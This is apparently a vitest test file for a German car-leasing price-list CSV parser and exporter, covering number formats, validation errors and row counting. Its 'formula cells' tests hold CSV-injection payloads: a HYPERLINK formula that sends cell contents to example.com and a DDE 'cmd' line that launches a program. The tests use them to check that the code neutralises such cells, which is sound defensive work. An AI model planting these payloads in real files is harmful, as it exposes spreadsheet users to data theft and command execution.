import { describe, expect, it } from 'vitest';

import { catalogVehicle } from '../../test-support/catalog.js';
import { COLUMNS, exportCsv, neutralizedFile, parsePriceList } from './price-list-csv.js';

const header = COLUMNS.map((c) => c.name);
const valid: Record<string, string> = {
  vehicleId: '',
  packageId: '',
  brand: 'Kia',
  model: 'EV3',
  trimLevel: 'GT-Line',
  listPriceGrossEur: '41990.00',
  maximumPowerKw: '150',
  rangeKm: '560',
  batteryKwh: '78.0',
  consumptionKwh100km: '15.4',
  deliveryFromWeeks: '8',
  deliveryToWeeks: '16',
  durationMonths: '36',
  kmPerYear: '15000',
  tires: 'ALL_SEASON',
  totalMonthlyGrossCostEur: '612.40',
  grossComparisonCostEur: '799.00',
  maintenanceAndServicingIncluded: 'true',
  vehicleInsuranceIncluded: 'true',
  tirePackageIncluded: 'true',
  tireChangeIncluded: 'false',
  rateInsuranceIncluded: 'false',
  costsMoreKilometers: '0.1250',
  reimbursementLessKilometers: '0.0625',
  excessMileageAllowance: '2500',
  exemptionLimitLessKilometers: '2500',
  capFewerKilometers: '10000',
  capExtraKilometers: '20000',
};

function file(rows: Record<string, string>[], delimiter = ';', columns = header): Buffer {
  const quote = (v: string) => (/[;,"\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  const lines = [columns.join(delimiter), ...rows.map((r) => columns.map((c) => quote(r[c] ?? '')).join(delimiter))];
  return Buffer.from(`\uFEFF${lines.join('\r\n')}\r\n`, 'utf8');
}

describe('price list CSV', () => {
  it('reads a valid row into cents, numbers and flags', () => {
    const parsed = parsePriceList(file([valid]));
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows[0]).toMatchObject({
      row: 2,
      vehicleId: null,
      vehicle: { brand: 'Kia', listPriceGrossCents: 4_199_000, batteryKwh: 78 },
      pkg: { durationMonths: 36, kmPerYear: 15_000, totalMonthlyGrossCostCents: 61_240, costsMoreKilometers: 0.125 },
    });
  });

  it('accepts decimal commas, German thousands, a comma-separated file and the carModel header', () => {
    const columns = header.map((c) => (c === 'model' ? 'carModel' : c));
    const row = {
      ...valid,
      carModel: 'EV3',
      listPriceGrossEur: '41.990,00',
      totalMonthlyGrossCostEur: '612,4',
      kmPerYear: '15.000',
    };
    const parsed = parsePriceList(file([row], ';', columns));
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows[0]?.pkg).toMatchObject({ totalMonthlyGrossCostCents: 61_240, kmPerYear: 15_000 });
    expect(parsed.rows[0]?.vehicle.listPriceGrossCents).toBe(4_199_000);
    const commas = parsePriceList(file([{ ...valid, trimLevel: 'GT-Line, Launch Edition' }], ','));
    expect(commas.errors).toEqual([]);
    expect(commas.rows[0]?.vehicle.trimLevel).toBe('GT-Line, Launch Edition');
  });

  it('names row, column and rule of every error, in German', () => {
    const rows = [
      { ...valid, kmPerYear: '12000' },
      { ...valid, durationMonths: '30', tires: 'WINTER' },
      { ...valid, totalMonthlyGrossCostEur: '-5' },
      { ...valid, costsMoreKilometers: '0.12345', tireChangeIncluded: 'vielleicht' },
      { ...valid, packageId: 'abc', brand: '' },
    ];
    const { errors, rows: ok } = parsePriceList(file(rows));
    expect(ok).toEqual([]);
    expect(errors).toEqual(
      [
        { row: 2, column: 'kmPerYear', message: expect.stringMatching(/10\.000 und 30\.000 km.*5\.000 km/) },
        { row: 3, column: 'durationMonths', message: expect.stringContaining('24, 36, 48 Monate') },
        { row: 3, column: 'tires', message: expect.stringContaining('ALL_SEASON oder SUMMER_WINTER_SETS') },
        { row: 4, column: 'totalMonthlyGrossCostEur', message: expect.stringContaining('nicht-negative') },
        { row: 5, column: 'tireChangeIncluded', message: expect.stringContaining('true oder false') },
        { row: 5, column: 'costsMoreKilometers', message: expect.stringContaining('4 Nachkommastellen') },
        { row: 6, column: 'packageId', message: expect.stringContaining('Keine gültige ID') },
        { row: 6, column: 'brand', message: expect.stringContaining('Pflichtfeld') },
      ].sort(
        (a, b) =>
          a.row - b.row ||
          COLUMNS.findIndex((c) => c.name === a.column) - COLUMNS.findIndex((c) => c.name === b.column),
      ),
    );
  });

  it('reports missing and unknown columns, empty files and files that are not UTF-8 text', () => {
    const missing = parsePriceList(file([valid], ';', [...header.filter((c) => c !== 'tires'), 'farbe']));
    expect(missing.errors).toEqual(
      expect.arrayContaining([
        { row: 1, column: 'farbe', message: 'Unbekannte Spalte' },
        { row: 1, column: 'tires', message: 'Spalte fehlt' },
      ]),
    );
    expect(parsePriceList(file([])).errors).toEqual([
      { row: 1, column: '', message: 'Die Datei enthält keine Pakete.' },
    ]);
    expect(parsePriceList(Buffer.from([0x62, 0x72, 0x61, 0x6e, 0x64, 0xe4, 0x0a])).errors[0]?.message).toContain(
      'UTF-8',
    );
    expect(parsePriceList(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01])).errors[0]?.message).toContain(
      'keine Textdatei',
    );
    const broken = parsePriceList(Buffer.from(`${header.join(';')}\n"offen;1;2\n`));
    expect(broken.errors[0]?.message).toContain('kein gültiges CSV');
  });

  it('counts rows as a spreadsheet does, also after quoted line breaks', () => {
    const rows = [
      { ...valid, specialNote: '', trimLevel: 'Zwei\nZeilen' },
      { ...valid, kmPerYear: '1' },
    ];
    const { errors } = parsePriceList(file(rows));
    expect(errors).toEqual([
      { row: 2, column: 'trimLevel', message: expect.stringContaining('Zeilenumbrüche') },
      { row: 3, column: 'kmPerYear', message: expect.any(String) },
    ]);
  });

  describe('formula cells', () => {
    const hostile = {
      brand: '=HYPERLINK("https://example.com/?"&A1;"Klick")',
      model: "+cmd|' /C calc'!A0",
      trimLevel: '@SUM(1+1)',
    };
    const vehicle = (names: { brand: string; model: string; trimLevel: string | null }) =>
      catalogVehicle('5f0c6a52-1c1b-4b7e-9a55-8d3c1c2f0001', names);

    it('exports them as text, and reads the export back to the same values', () => {
      const csv = exportCsv([vehicle(hostile)]);
      const line = csv.split('\n')[1] ?? '';
      expect(line).toContain(`;"'=HYPERLINK(""https://example.com/?""&A1;""Klick"")";`);
      expect(line).toContain(`;'+cmd|' /C calc'!A0;'@SUM(1+1);`);
      const back = parsePriceList(Buffer.from(csv));
      expect(back.errors).toEqual([]);
      expect(back.rows[0]?.vehicle).toMatchObject(hostile);
    });

    it('reads a cell a spreadsheet saved without the apostrophe the same way', () => {
      const parsed = parsePriceList(
        file([
          { ...valid, trimLevel: "'-Line" },
          { ...valid, trimLevel: '-Line' },
        ]),
      );
      expect(parsed.rows.map((r) => r.vehicle.trimLevel)).toEqual(['-Line', '-Line']);
    });

    it('keeps numbers numbers and takes no apostrophe off a number', () => {
      const csv = exportCsv([vehicle({ brand: 'Kia', model: 'EV3', trimLevel: '-12.50' })]);
      expect(csv.split('\n')[1]).toContain(';Kia;EV3;-12.50;41990.00;');
      expect(parsePriceList(file([{ ...valid, listPriceGrossEur: "'-5" }])).errors).toEqual([
        { row: 2, column: 'listPriceGrossEur', message: expect.stringContaining('nicht-negative') },
      ]);
    });

    it('neutralises a stored upload when it is downloaded again', () => {
      const upload = file([{ ...valid, ...hostile }]).toString('utf8');
      const again = neutralizedFile(upload);
      expect(again).toContain(`'+cmd|' /C calc'!A0`);
      expect(again).toContain(`'@SUM(1+1)`);
      const back = parsePriceList(Buffer.from(again));
      expect(back.errors).toEqual([]);
      expect(back.rows[0]?.vehicle).toMatchObject(hostile);
    });
  });
});
